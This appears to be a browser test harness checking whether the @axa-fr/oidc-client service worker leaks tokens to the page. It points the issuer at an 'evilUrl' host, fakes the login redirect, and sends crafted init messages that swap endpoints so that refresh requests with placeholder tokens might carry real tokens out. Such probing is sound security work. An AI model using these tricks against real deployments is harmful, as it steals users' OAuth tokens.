// axa's oidc-client with only its service worker: no token should reach the page.
import { OidcClient } from '@axa-fr/oidc-client';

const { evilUrl, apiUrl, clientConfig } = window;
const [issuer, configurationName] = [`${evilUrl}/oidc`, 'default'];
const endpoints = {
  issuer,
  authorization_endpoint: `${issuer}/authorize`,
  token_endpoint: `${issuer}/token`,
  revocation_endpoint: `${issuer}/revoke`,
  userinfo_endpoint: `${issuer}/userinfo`,
};
const form = (members) => ({ method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(members).toString() });
const placeholder = (what) => `${what}_SECURED_BY_OIDC_SERVICE_WORKER_default#tabId=default`;
const message = (type, data = {}) => ({ type, configurationName, tabId: 'default', data });
const known = {
  issuer,
  authorizationEndpoint: `${issuer}/authorize`,
  tokenEndpoint: `${issuer}/token`,
  revocationEndpoint: `${issuer}/revoke`,
  userInfoEndpoint: `${issuer}/userinfo`,
};

/** Messages in the worker's own format. */
window.words = [
  ...['getCodeVerifier', 'getState', 'getNonce', 'getSessionState', 'getDemonstratingProofOfPossessionNonce'].map((type) => message(type)),
  message('init', { oidcServerConfiguration: known, oidcConfiguration: {} }),
];
const say = async (data) => {
  const { port1, port2 } = new MessageChannel();
  const answer = new Promise((resolve) => (port1.onmessage = ({ data }) => resolve(data)));
  navigator.serviceWorker.controller.postMessage(data, [port2]);
  return answer;
};
const refresh = () =>
  fetch(`${issuer}/token`, form({ grant_type: 'refresh_token', client_id: 'app', refresh_token: placeholder('REFRESH_TOKEN') })).then((response) =>
    response.text(),
  );
/** The settings of the server that its messages let a page change, within the trusted domains. */
window.tricks = ['revocationEndpoint', 'userInfoEndpoint', 'issuer'].map((endpoint) => async () => {
  await say(message('init', { oidcServerConfiguration: { ...known, [endpoint]: `${issuer}/token` }, oidcConfiguration: {} }));
  const got = await refresh();
  await say(message('init', { oidcServerConfiguration: known, oidcConfiguration: {} }));
  return got;
});

window.enter = async () => {
  let gone, here;
  // A location object that does not navigate: the server's answer is made up.
  const place = {
    open: (url) => void (gone = new URL(url)),
    reload: () => {},
    getCurrentHref: () => here ?? location.href,
    getPath: () => new URL(here ?? location.href).pathname,
    getOrigin: () => location.origin,
  };
  const client = OidcClient.getOrCreate(() => fetch, place)(
    {
      client_id: 'app',
      redirect_uri: clientConfig.redirect_uri,
      scope: 'openid read',
      authority: issuer,
      authority_configuration: endpoints,
      service_worker_relative_url: window.vaultUrl,
      service_worker_only: true,
    },
    configurationName,
  );
  await client.loginAsync('/');
  for (const end = Date.now() + 10_000; !gone && Date.now() < end; ) await new Promise((resolve) => setTimeout(resolve, 20));
  const { nonce, state } = Object.fromEntries(gone.searchParams);
  here = `${clientConfig.redirect_uri}?${new URLSearchParams({ code: `THE-CODE.${nonce}`, state })}`;
  await client.loginCallbackAsync();
  window.client = client;
  client.fetch = (...args) => fetch(...args);
  client.refresh = () => client.renewTokensAsync();
  client.status = async () => !!client.tokens;
  client.logOut = () => client.logoutAsync(null);
};
window.use = async () => {
  const { status } = await window.client.fetch(apiUrl);
  await window.client.refresh();
  await window.client.userInfoAsync();
  return status;
};
